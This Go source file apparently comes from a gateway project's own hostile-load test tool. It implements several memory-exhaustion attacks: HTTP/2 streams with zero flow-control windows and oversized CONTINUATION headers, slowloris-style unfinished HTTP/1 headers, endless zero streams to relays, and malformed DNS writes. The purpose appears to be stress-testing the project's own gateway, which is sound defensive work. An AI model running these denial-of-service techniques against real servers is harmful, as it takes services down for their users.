package main

import (
	"bytes"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/bothy-dev/bothy/internal/gateway/namepool"
)

// attack opens connections that make a gateway use memory until they end.
type attack struct {
	port  string
	conns int
	hold  func(*load, net.Conn)
}

// attacks are ways to make a gateway use much memory.
var attacks = map[string]attack{
	"heads":      {silentSecure, 40, func(l *load, c net.Conn) { l.streams(c, "GET", "/", 105<<10, 0) }},
	"bodies":     {silentSecure, 40, func(l *load, c net.Conn) { l.streams(c, "POST", "/", 0, 16<<10) }},
	"answers":    {silentSecure, 40, func(l *load, c net.Conn) { l.streams(c, "GET", "/flood", 0, 0) }},
	"unfinished": {silentSecure, 400, (*load).unfinished},
	"relays":     {silentPlain, 2000, func(_ *load, c net.Conn) { _, _ = io.Copy(c, zeros{}) }},
	"questions":  {"53", 250, func(_ *load, c net.Conn) { _, _ = c.Write([]byte{0xf, 0xff, 0}) }},
}

// hostile makes one attack, reports when it has reached its maximum, and ends it when standard input
// ends.
func hostile(args []string) error {
	var l load
	fs := flag.NewFlagSet("hostile", flag.ContinueOnError)
	kind := fs.String("attack", "heads", "heads, bodies, answers, unfinished, relays or questions")
	addr := fs.String("addr", "", "address of the server, for what nobody looks into")
	dns := fs.String("dns", "", "name server to ask")
	roots := fs.String("roots", "", "file of trusted authorities")
	fs.StringVar(&l.name, "name", "", "name of the server")
	if err := fs.Parse(args); err != nil {
		return err
	}
	a, ok := attacks[*kind]
	if !ok {
		return fmt.Errorf("no attack %q", *kind)
	}
	to := ""
	switch a.port {
	case "53":
		to = namepool.Gateway4.String()
	case silentPlain:
		to = *addr
	}
	if err := l.find(to, *dns, a.port); err != nil {
		return err
	}
	if a.port == silentSecure {
		pem, err := os.ReadFile(*roots)
		if err != nil {
			return err
		}
		l.tls = trusting(l.name, pem)
		if *kind != "unfinished" {
			l.tls.NextProtos = []string{"h2"}
		}
	}
	open, refused := a.begin(&l)
	if open == 0 {
		return fmt.Errorf("no connection is open: %w", refused)
	}
	if err := tell(struct {
		Open int `json:"open"`
	}{open}); err != nil {
		return err
	}
	_, err := io.Copy(io.Discard, os.Stdin)
	return err
}

// begin opens connections, and returns when each of them has reached its maximum, or after a while.
func (a attack) begin(l *load) (open int, refused error) {
	var mu sync.Mutex
	var wg sync.WaitGroup
	places := make(chan struct{}, 32)
	for range a.conns {
		places <- struct{}{}
		wg.Go(func() {
			w := &worker{load: l}
			err := w.dial()
			<-places
			mu.Lock()
			if err == nil {
				open++
			} else if refused == nil {
				refused = err
			}
			mu.Unlock()
			if err != nil {
				return
			}
			_ = w.conn.SetWriteDeadline(time.Now().Add(10 * time.Second))
			a.hold(l, w.conn)
		})
	}
	wg.Wait()
	return open, refused
}

// streams opens as many streams as one connection allows, and reads none of their answers: each stream
// has a window of no bytes.
func (l *load) streams(c net.Conn, method, path string, head, body int) {
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return
	}
	f := http2.NewFramer(c, c)
	go func() { _, _ = io.Copy(io.Discard, c) }()
	_ = f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	for n := range uint32(100) {
		var b bytes.Buffer
		e := hpack.NewEncoder(&b)
		for _, h := range [][2]string{{":method", method}, {":scheme", "https"}, {":authority", l.name + ":" + silentSecure}, {":path", path}, {"x-large", strings.Repeat("~", head)}} {
			_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1], Sensitive: true})
		}
		block, stream := b.Bytes(), 2*n+1
		first := block[:min(len(block), 16<<10)]
		block = block[len(first):]
		if f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: first, EndHeaders: len(block) == 0, EndStream: body == 0}) != nil {
			return
		}
		for len(block) > 0 {
			part := block[:min(len(block), 16<<10)]
			block = block[len(part):]
			if f.WriteContinuation(stream, len(block) == 0, part) != nil {
				return
			}
		}
		if body > 0 && f.WriteData(stream, false, piece[:body]) != nil {
			return
		}
	}
}

// unfinished sends an endless head over HTTP/1.
func (l *load) unfinished(c net.Conn) {
	_, _ = fmt.Fprintf(c, "GET / HTTP/1.1\r\nHost: %s:%s\r\nX-Large: %s", l.name, silentSecure, strings.Repeat("~", 120<<10))
}

// zeros is an endless stream of zeros.
type zeros struct{}

func (zeros) Read(b []byte) (int, error) { return len(b), nil }
